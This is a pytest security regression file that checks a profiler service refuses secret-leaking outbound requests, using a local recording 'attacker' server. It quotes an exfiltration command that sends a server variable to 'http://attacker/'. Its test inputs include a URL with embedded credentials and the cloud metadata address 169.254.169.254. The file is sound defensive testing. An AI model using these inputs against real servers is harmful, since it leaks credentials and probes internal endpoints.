"""No secret leaves by request, over a real profiler server (the embedded suite's, on
loopback, whose outbound policy allows loopback hosts and has no credentials), with a real
"attacker" HTTP server on 127.0.0.1 that records every request it gets.

Issue 13's exfiltration: `--api-key-env HOME --base-url http://attacker/` made the profiler
send `Authorization: Bearer <the server's HOME>` to the attacker. Now the variable cannot
be named at all (INVALID_ARGUMENT API_KEY_ENV_RETIRED, the value not echoed), a credential
id is refused unless configured for the namespace and that URL (PERMISSION_DENIED, one
answer whether it exists or not), a URL with userinfo is refused before it is stored, and
a host off the allow-list is refused: in every case nothing is stored and the attacker
receives nothing.
"""

from __future__ import annotations

import dataclasses
import http.server
import threading
from collections.abc import Iterator
from typing import Any

import grpc
import pytest

from idealrt.clients.profiler import ProfilerClient
from idealrt.clients.store import StoreClient
from idealrt.core.convert import profile_to_pb
from idealrt.core.domain import ModelRef, Profile, ProfilePlan, StackSpec, Target, TargetKind
from idealrt.core.errors import IdealrtError
from idealrt.core.grpc_client import open_channel
from idealrt.profiler.v1 import profiler_service_pb2 as ppb
from idealrt.profiler.v1 import profiler_service_pb2_grpc as ppbg


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[dict[str, str]]

    def _any(self) -> None:
        self.seen.append(dict(self.headers))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_GET = do_POST = _any

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[dict[str, str]]]]:
    seen: list[dict[str, str]] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1", seen
    finally:
        server.shutdown()
        server.server_close()


def _profile(target: Target) -> Profile:
    return Profile(
        id="",
        model=ModelRef(name="api-model"),
        stack=StackSpec(),
        plan=ProfilePlan(prompt_tokens=(8,), output_tokens=(2,), repeats=1, warmups=0),
        target=target,
    )


def _profiles_stored(suite: Any) -> int:
    st = StoreClient(suite.store)
    try:
        profiles, _ = st.list_profiles(page_size=1000)
        return len(profiles)
    finally:
        st.close()


def test_a_caller_cannot_name_a_server_variable_to_send(
    suite: Any, attacker: tuple[str, list[dict[str, str]]]
) -> None:
    """The old field over the wire (a client that still sends it): refused, not echoed."""
    url, seen = attacker
    before = _profiles_stored(suite)
    channel = open_channel(suite.profiler)
    try:
        stub = ppbg.ProfilerServiceStub(channel)
        message = profile_to_pb(
            _profile(Target(kind=TargetKind.HTTP, base_url=url, api_model="m", tokenizer="x"))
        )
        message.target.api_key_env = "HOME"  # what an old client sends
        request = ppb.CreateProfileRequest(profile=message)
        with pytest.raises(grpc.RpcError) as e:
            stub.CreateProfile(request, timeout=30)
    finally:
        channel.close()
    assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    details = e.value.details() or ""
    assert "api_key_env" in details and "HOME" not in details
    assert _profiles_stored(suite) == before and seen == []


@pytest.mark.parametrize(
    ("change", "code", "reason"),
    [
        ({"credential": "HOME"}, "PERMISSION_DENIED", "CREDENTIAL_NOT_AVAILABLE"),
        ({"credential": "openai"}, "PERMISSION_DENIED", "CREDENTIAL_NOT_AVAILABLE"),
        ({"base_url": "http://user:pw@127.0.0.1:9/v1"}, "INVALID_ARGUMENT", "BASE_URL_USERINFO"),
        (
            {"base_url": "http://169.254.169.254/v1"},
            "PERMISSION_DENIED",
            "OUTBOUND_HOST_NOT_ALLOWED",
        ),
        (
            {"base_url": "https://api.openai.com/v1"},
            "PERMISSION_DENIED",
            "OUTBOUND_HOST_NOT_ALLOWED",
        ),
    ],
)
def test_outbound_requests_the_policy_does_not_allow_are_refused_before_anything_is_stored(
    suite: Any,
    attacker: tuple[str, list[dict[str, str]]],
    change: dict[str, str],
    code: str,
    reason: str,
) -> None:
    url, seen = attacker
    before = _profiles_stored(suite)
    fields = {"base_url": url, "api_model": "m", "tokenizer": "x", **change}
    target = Target(kind=TargetKind.HTTP, **fields)
    client = ProfilerClient(suite.profiler)
    try:
        with pytest.raises(IdealrtError) as e:
            client.create_profile(_profile(target))
    finally:
        client.close()
    assert (e.value.code.name, e.value.reason) == (code, reason)
    assert "pw" not in e.value.message
    assert _profiles_stored(suite) == before and seen == []


@pytest.mark.parametrize("namespace", ["Team_A", "-x", "a" * 64])
def test_a_bad_namespace_is_refused_naming_the_field_over_real_channels(
    suite: Any, namespace: str
) -> None:
    """The namespaces this change added to requests, over the suite's real servers:
    CreateProfile's profile.namespace and ImportHelm's namespace are INVALID_ARGUMENT
    NAMESPACE_INVALID naming the field, before anything is stored."""
    from idealrt.clients.metrics import MetricsClient

    before = _profiles_stored(suite)
    profiler = ProfilerClient(suite.profiler)
    metrics = MetricsClient(suite.metrics)
    try:
        prof = _profile(Target(kind=TargetKind.SERVING))
        with pytest.raises(IdealrtError) as e:
            profiler.create_profile(dataclasses.replace(prof, namespace=namespace))
        assert (e.value.code.name, e.value.reason, e.value.field) == (
            "INVALID_ARGUMENT",
            "NAMESPACE_INVALID",
            "profile.namespace",
        )
        with pytest.raises(IdealrtError) as e2:
            metrics.import_helm({}, namespace=namespace)
        assert (e2.value.code.name, e2.value.reason, e2.value.field) == (
            "INVALID_ARGUMENT",
            "NAMESPACE_INVALID",
            "namespace",
        )
    finally:
        profiler.close()
        metrics.close()
    assert _profiles_stored(suite) == before
